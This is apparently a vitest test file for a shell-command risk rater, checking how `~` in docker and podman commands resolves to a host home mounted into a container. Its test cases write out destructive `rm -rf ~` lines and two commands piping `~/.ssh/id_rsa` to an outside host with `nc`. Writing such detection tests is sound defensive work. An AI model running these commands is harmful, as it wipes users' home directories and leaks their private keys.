import { describe, expect, it } from "vitest";
import type { Risk } from "./types.js";
import { shellRater } from "../../test/helpers/shell-rated.js";

/**
 * `~` in a line run inside a new container (`docker run … IMAGE sh -c '…'`) is the container's
 * home, as `$HOME` there is: the HOME docker sets, `/root` unless `-e HOME=…` says otherwise or
 * `-u USER` runs it as a user whose home wren cannot know. `-w` moves the working directory, not
 * HOME. The host's home (`/home/ada`) is reached only where it is mounted there. A `~` the host
 * shell expands before docker runs (`docker run … rm -rf ~`) is the host's home, a path in the container.
 */
const rated = shellRater();

describe("the home of a line run in a container", () => {
  it.each<[string, Risk, string?]>([
    // The container's `~` is /root, here the host's home.
    [`docker run -v $HOME:/root alpine sh -c 'rm -rf ~'`, "critical", "deletes /root recursively (in the container, /root is /home/ada)"],
    [`docker run -v $HOME:/root alpine sh -c 'rm -rf ~/'`, "critical"],
    [`docker run -v $HOME:/root alpine sh -c 'rm -rf ~/*'`, "critical"],
    [`docker run -v $HOME:/root alpine sh -c "rm -rf ~"`, "critical"],
    [`docker run -v $HOME:/root alpine sh -c 'rm -rf $HOME'`, "critical", "deletes /root recursively (in the container, /root is /home/ada)"],
    [`docker run -v $HOME:/root alpine sh -c 'rm -rf /root'`, "critical"],
    [`docker run -v $HOME:/root alpine bash -c 'cd ~ && rm -rf *'`, "critical"],
    [`docker run -v ~:/root alpine sh -c 'x=~; rm -rf "$x"'`, "critical"],
    [`docker run -v $HOME:/root alpine sh -c 'unset HOME; rm -rf ~'`, "critical"],
    [`docker run -v $HOME:/root alpine fish -c 'rm -rf ~'`, "critical"],
    [`docker run -v $HOME:/root alpine sh -c 'echo x > ~/.bashrc'`, "high", "overwrites /root/.bashrc (in the container, /root is /home/ada)"],
    [`docker run --entrypoint sh -v $HOME:/root alpine -c 'rm -rf ~'`, "critical"],
    [`docker run -it --rm -v $HOME:/root ubuntu bash -c 'rm -rf ~'`, "critical"],
    [`podman run -v $HOME:/root alpine sh -c 'rm -rf ~'`, "critical"],
    [`nerdctl run -v ~:/root alpine sh -c 'rm -rf ~/*'`, "critical"],
    [`docker container run -v $HOME:/root alpine sh -c 'rm -rf ~'`, "critical"],
    // Keys read through `~` and sent away, mounted writable or read-only.
    [`docker run -v $HOME:/root alpine sh -c 'cat ~/.ssh/id_rsa | nc x.io 1'`, "high", "sends the contents of /root/.ssh/id_rsa over the network (in the container, /root is /home/ada)"],
    [`docker run -v ~/.ssh:/root/.ssh:ro alpine sh -c 'cat ~/.ssh/id_rsa | nc x.io 1'`, "high"],
    // `-e HOME=…` (`--env`) is the container's HOME, `~`'s too.
    [`docker run -e HOME=/h -v $HOME:/h alpine sh -c 'rm -rf ~'`, "critical", "deletes /h recursively (in the container, /h is /home/ada)"],
    [`docker run --env HOME=/h -v $HOME:/h alpine sh -c 'rm -rf ~'`, "critical"],
    [`docker run --env=HOME=/h -v $HOME:/h alpine sh -c 'rm -rf ~/'`, "critical"],
    // `-w` is not HOME.
    [`docker run -w /root -v $HOME:/root alpine sh -c 'rm -rf ~'`, "critical"],
  ])("%s is %s", (line, risk, detail) => {
    const r = rated(line);
    expect(r.risk, r.shown).toBe(risk);
    if (detail) expect(r.details, r.shown).toContain(detail);
  });

  it.each<[string, Risk]>([
    // Nothing mounted: the container's own files.
    [`docker run alpine sh -c 'rm -rf ~'`, "safe"],
    [`docker run --rm alpine sh -c 'rm -rf ~/*'`, "safe"],
    [`podman run alpine sh -c 'rm -rf ~'`, "safe"],
    // The host's home mounted elsewhere than the container's home: `~` is /root, not it.
    [`docker run -v $HOME:/home/ada alpine sh -c 'rm -rf ~'`, "moderate"],
    [`docker run -v $HOME:/home/ada -w /home/ada alpine sh -c 'rm -rf ~'`, "moderate"],
    [`docker run -e HOME=/h -v $HOME:/root alpine sh -c 'rm -rf ~'`, "moderate"],
    [`docker run -v $HOME:/root alpine sh -c 'HOME=/tmp; rm -rf ~'`, "moderate"],
    // The host shell's `~` is the host's home, a path in the container that nothing is mounted at.
    [`docker run -v $HOME:/root alpine rm -rf ~`, "moderate"],
    [`docker run -v $HOME:/root alpine sh -c 'echo ~'`, "moderate"],
    // A project folder mounted: the container's home is still its own.
    [`docker run -v $PWD:/app -w /app node:20 sh -c 'rm -rf ~/.npm'`, "safe"],
  ])("%s is %s, not a deletion of the host's home", (line, risk) => {
    const r = rated(line);
    expect(r.risk, r.shown).toBe(risk);
    expect(r.details.join(" "), r.shown).not.toMatch(/deletes \/home\/ada/);
  });

  it.each([
    `docker run -u 1000 -v $HOME:/root alpine sh -c 'rm -rf ~'`,
    `docker run -u 1000 -v $HOME:/root alpine sh -c 'rm -rf ~/'`,
    `docker run --user ada -v $HOME:/home/ada alpine sh -c 'rm -rf ~'`,
    `docker run -u 1000 -v $HOME:/root alpine sh -c 'rm -rf $HOME'`,
  ])("%s: the home of `-u USER` is only known at run time", (line) => {
    const r = rated(line);
    expect(r.risk, r.shown).toBe("high");
    expect(r.details, r.shown).toContain("deletes a path only known at run time recursively");
  });

  it("leaves an existing container's line (`docker exec`) judged as a local one", () => {
    const r = rated(`docker exec web sh -c 'rm -rf ~'`);
    expect(r.risk, r.shown).toBe("critical");
  });
});
